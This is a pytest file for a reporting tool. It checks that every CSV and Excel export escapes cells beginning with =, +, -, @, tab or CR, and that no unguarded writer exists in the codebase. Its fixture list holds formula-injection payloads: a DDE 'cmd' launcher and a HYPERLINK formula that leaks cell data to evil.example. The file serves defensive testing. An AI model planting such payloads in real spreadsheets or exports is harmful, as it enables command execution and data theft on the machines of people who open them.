"""Every file the product writes for people keeps formula-looking text inert (issue 11, point 2).

One report whose cells start with `= + - @`, tab or CR is read, then every writer is walked: the
dashboard's download buttons (`views.to_csv_bytes` / `to_excel_bytes`, used by
`widgets.downloads`), the Excel report and template, `parse` / `score` / `store list` in CSV, and
the backup's CSVs. A second test finds every place in the code that writes a CSV or workbook, so a
writer added later without the guard fails here.
"""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ita_metrics.cli import main as cli_main
from ita_metrics.cli import score as cli_score
from ita_metrics.export.template import template_xlsx
from ita_metrics.export.xlsx import report_xlsx
from ita_metrics.interpret.importer import parse_file
from ita_metrics.presentation import views
from ita_metrics.safe_cells import DANGEROUS_STARTS, neutralise, neutralise_frame
from ita_metrics.scoring import scoring
from ita_metrics.store import Store
from tests.conftest import ROOT
from tests.helpers import AGENCY, HEADER, TITLE, YEAR

EVIL = [
    "=cmd|' /C notepad'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+SUM(1,2)",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
]
NAME = "evil_report.csv"


def evil_report() -> bytes:
    rows = [TITLE, YEAR, AGENCY, HEADER]
    for i, text in enumerate(EVIL):
        rows.append(
            [
                text,
                "=" + "กองคลัง" if i % 2 else "สำนักปลัด",
                "ตุลาคม ๒๕๖๕ - มีนาคม ๒๕๖๖",
                "@ดำเนินการแล้ว" if i % 2 else "ดำเนินการแล้ว",
            ]
        )
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode("utf-8")


@pytest.fixture(scope="module")
def measures():
    result = parse_file(evil_report(), NAME)
    assert result.error is None
    m = result.measures
    assert len(m) == len(EVIL)
    assert {t.strip() for t in EVIL} == set(m["measure"])  # read as written (the cleaner trims white space)
    return m


def cells_of_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def cells_of_xlsx(data: bytes, own_formulas: bool = False) -> list[str]:
    """Text cells; a formula only where the writer builds its own (the template's lookups)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert own_formulas and "evil" not in str(cell.value), (ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str):
                    out.append(cell.value)
    return out


def assert_inert(cells: list[str], writer: str, must_keep: int = 1) -> None:
    live = [c for c in cells if c.startswith(DANGEROUS_STARTS)]
    assert not live, (writer, live[:5])
    kept = [c for c in cells if c[:1] == "'" and c[1:2] in {s[0] for s in DANGEROUS_STARTS} | {"\n"}]
    assert len(kept) >= must_keep, (writer, "the evil text should be there, behind an apostrophe")


def cli(args: list[str], capsys) -> str:
    code = cli_main(args)
    out = capsys.readouterr().out
    assert code == 0, out
    return out


def test_every_writer_neutralises(measures, tmp_path, capsys):
    src = tmp_path / NAME
    src.write_bytes(evil_report())
    outputs = {
        "download csv (views.to_csv_bytes)": cells_of_csv(views.to_csv_bytes(measures)),
        "download xlsx (views.to_excel_bytes)": cells_of_xlsx(views.to_excel_bytes(measures, "overdue")),
        "excel report": cells_of_xlsx(report_xlsx(measures)),
        "parse --format csv": cells_of_csv(cli(["parse", str(src), "--format", "csv"], capsys).encode()),
        "score --format csv": cells_of_csv(
            cli(["score", str(src), "--by", "responsible", "--format", "csv"], capsys).encode()
        ),
    }
    evil_agency = measures.assign(agency='=HYPERLINK("http://evil.example")')
    outputs["score render csv (a group named by a formula)"] = cells_of_csv(
        cli_score.render(scoring.score_groups(evil_agency, by="agency"), "csv").encode()
    )
    store = Store(tmp_path / "s.sqlite")
    store.import_result(parse_file(evil_report(), "=" + NAME))
    outputs["store list --format csv"] = cells_of_csv(
        cli(["store", "--store", str(tmp_path / "s.sqlite"), "list", "--format", "csv"], capsys).encode()
    )
    with zipfile.ZipFile(io.BytesIO(store.backup_bytes())) as zf:
        for member in zf.namelist():
            if member.endswith(".csv") and member != "reports.csv":
                outputs[f"backup {member}"] = cells_of_csv(zf.read(member))
        outputs["backup reports.csv"] = cells_of_csv(zf.read("reports.csv"))
    store.close()
    template_cells = cells_of_xlsx(template_xlsx(2567, agency='=HYPERLINK("http://evil.example")'), own_formulas=True)
    outputs["template"] = template_cells
    for writer, cells in outputs.items():
        # every output is checked for live text; those that carry the file's text must show it guarded
        must = (
            0
            if writer == "score --format csv"
            or (writer.startswith("backup") and writer not in ("backup measures.csv", "backup reports.csv"))
            else 1
        )
        assert_inert(cells, writer, must)


def test_neutralise_touches_only_text():
    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise("ปกติ =1") == "ปกติ =1"
    for start in DANGEROUS_STARTS:
        assert neutralise(start + "x") == "'" + start + "x"
    import pandas as pd

    df = pd.DataFrame({"n": [-1.5, 2.0], "t": ["=A1", "ok"], "s": pd.Series(["-x", ""], dtype="string")})
    out = neutralise_frame(df)
    assert out["n"].tolist() == [-1.5, 2.0] and out["t"].tolist() == ["'=A1", "ok"] and out["s"].tolist() == ["'-x", ""]
    assert df["t"].tolist() == ["=A1", "ok"]  # the caller's table is not changed


# Every call that writes a spreadsheet-readable file, and where it is guarded (the walk above covers each).
WRITER_CALL = re.compile(
    r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|"
    r"openpyxl\.Workbook\("
)
KNOWN_WRITERS = {
    "ita_metrics/presentation/views.py": 2,  # to_csv_bytes, to_excel_bytes: every download button
    "ita_metrics/cli/common.py": 1,  # parse/store list --format csv
    "ita_metrics/cli/score.py": 1,  # score --format csv
    "ita_metrics/cli/parse.py": 1,  # parse --format csv (streamed)
    "ita_metrics/store/backup.py": 1,  # backup CSVs
    "ita_metrics/export/xlsx.py": 1,  # thai_workbook: the Excel report and the blank template (safe_text)
    # the synthetic sample reports: our own text, an input not an output
    "sample_data/synth.py": 1,
    "sample_data/workbook.py": 1,
    "sample_data/writers_csv.py": 1,
}


def test_no_writer_escapes_the_walk():
    found: dict[str, int] = {}
    for folder in ("ita_metrics", "components", "pages", "sample_data"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            n = len(WRITER_CALL.findall(path.read_text(encoding="utf-8")))
            if n:
                found[path.relative_to(ROOT).as_posix()] = n
    n = len(WRITER_CALL.findall((ROOT / "dashboard.py").read_text(encoding="utf-8")))
    if n:
        found["dashboard.py"] = n
    assert found == KNOWN_WRITERS, "a new CSV/workbook writer: guard it with ita_metrics.safe_cells and add it above"


def test_known_writers_use_the_guard():
    for rel in KNOWN_WRITERS:
        if rel.startswith("sample_data/"):
            continue
        text = Path(ROOT / rel).read_text(encoding="utf-8")
        assert "neutralise" in text or "safe_text" in text, rel
